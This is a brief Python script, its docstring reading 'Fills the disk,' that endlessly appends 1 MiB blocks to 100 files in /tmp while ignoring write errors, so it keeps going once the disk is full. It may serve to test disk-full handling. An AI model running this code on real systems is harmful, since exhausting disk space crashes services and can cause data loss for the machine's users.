"""Fills the disk."""

import contextlib
import itertools
from pathlib import Path

for number in itertools.count():
    with contextlib.suppress(OSError), Path(f"/tmp/{number % 100}").open("ab") as file:
        file.write(b"x" * (1 << 20))
